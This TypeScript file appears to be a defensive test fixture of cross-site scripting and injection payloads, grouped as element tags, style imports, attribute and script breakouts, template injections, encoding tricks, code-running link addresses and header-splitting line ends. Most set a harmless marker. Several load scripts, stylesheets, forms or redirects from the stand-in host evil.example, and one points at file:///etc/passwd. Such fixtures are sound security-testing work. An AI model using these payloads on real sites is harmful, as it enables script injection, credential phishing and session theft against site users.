/**
 * What attackers write into a field to make a page run it: each sets `window.hacked`, or fetches from another site,
 * unless it is treated as plain text. None is longer than the shortest field (a name, 100 characters).
 */

const elements = [
  '<script>window.hacked=1</script>',
  '<ScRiPt >window.hacked=1</sCrIpT >',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=window.hacked=1>',
  '<img src=x onerror="window.hacked=1"//',
  '<svg onload=window.hacked=1>',
  '<svg/onload=window.hacked=1//',
  '<svg><script>window.hacked=1</script></svg>',
  '<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>',
  '<svg><style><img src=x onerror=window.hacked=1></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>',
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<iframe src="javascript:parent.hacked=1"></iframe>',
  '<details open ontoggle=window.hacked=1>more</details>',
  '<input autofocus onfocus=window.hacked=1>',
  '<video><source onerror=window.hacked=1></video>',
  '<audio src=x onerror=window.hacked=1>',
  '<object data="data:text/html,<script>parent.hacked=1</script>"></object>',
  '<embed src="//evil.example/x.svg">',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '<form action="//evil.example/"><button autofocus>Sign in</button></form>',
  '<a href="javascript:window.hacked=1">a link</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<body onload=window.hacked=1>',
  '<p contenteditable autofocus onfocus=window.hacked=1>',
]

const styles = [
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{background:url("https://evil.example/x")}</style>',
  '<div style="background:url(https://evil.example/x)">x</div>',
]

/** Breaks out of an attribute, or out of elements whose text is not parsed. */
const breaks = [
  '" onmouseover="window.hacked=1" x="',
  '" autofocus onfocus=window.hacked=1 x="',
  "' onfocus='window.hacked=1' autofocus='",
  '"><script>window.hacked=1</script>',
  "'><img src=x onerror=window.hacked=1>",
  '`"\'><img src=x onerror=window.hacked=1>',
  '</title><script>window.hacked=1</script>',
  '</textarea><img src=x onerror=window.hacked=1>',
  '</style><img src=x onerror=window.hacked=1>',
  '</script><script>window.hacked=1</script>',
  '</script ><svg onload=window.hacked=1>',
  '<!--<script>window.hacked=1//',
  '--><img src=x onerror=window.hacked=1>',
  '<!--><img src=x onerror=window.hacked=1>-->',
  '<![CDATA[<img src=x onerror=window.hacked=1>]]>',
]

/** Breaks out of JSON and JavaScript, and into templates. */
const programs = [
  '"};window.hacked=1;//',
  '\\"};window.hacked=1;//',
  '\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e',
  'a line\u2028window.hacked=1\u2029and another',
  '{"__proto__":{"hacked":1}}',
  `\${window.hacked=1} $\{'window.hacked=1'}`,
  "{{constructor.constructor('window.hacked=1')()}}",
  '<%= window.hacked=1 %> #{window.hacked=1}',
]

const markdown = [
  '[a link](javascript:window.hacked=1)',
  '![a picture](x"onerror="window.hacked=1)',
  '<javascript:window.hacked=1>',
]

/** Characters that turn into others: encoded, wide, right to left. */
const letters = [
  '&lt;img src=x onerror=window.hacked=1&gt; &#60;script&#62;',
  '%3Cscript%3Ewindow.hacked=1%3C/script%3E',
  '+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-',
  '\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e',
  '\u202e>tpircs/<1=dekcah.wodniw>tpircs<\u202c',
  '<scr\u200bipt>window.hacked=1</scr\u200bipt>',
]

/** Addresses that run code, for links. */
export const runningLinks = [
  'javascript:window.hacked=1',
  'JaVaScRiPt:window.hacked=1',
  ' javascript:window.hacked=1',
  'java\tscript:window.hacked=1',
  'java\nscript:window.hacked=1',
  '\u0001javascript:window.hacked=1',
  'javascript://wrenfield.example/%0awindow.hacked=1',
  'javascript&colon;window.hacked=1',
  'data:text/html,<script>opener.hacked=1</script>',
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=',
  'vbscript:window.hacked=1',
  'blob:https://evil.example/0',
  'file:///etc/passwd',
  'view-source:https://evil.example',
  '//evil.example/x',
  '/\\evil.example/x',
  'https:evil.example',
  'https://user:secret@evil.example/',
  'https://wrenfield.example/"onclick="window.hacked=1',
  'mailto:a@b.example"onclick="window.hacked=1',
  'tel:javascript:window.hacked=1',
]

/** Line ends that would split a header. */
export const lineEnds = [
  'x\r\nSet-Cookie: hacked=1\r\n\r\n<script>window.hacked=1</script>',
  'x\nhacked: 1',
  'x\u560d\u560ahacked: 1',
]

/** Every payload that fits into one line of text. */
export const payloads: readonly string[] = [
  ...elements,
  ...styles,
  ...breaks,
  ...programs,
  ...markdown,
  ...letters,
  'javascript:window.hacked=1',
  'data:text/html,<script>opener.hacked=1</script>',
  '//evil.example/x',
]
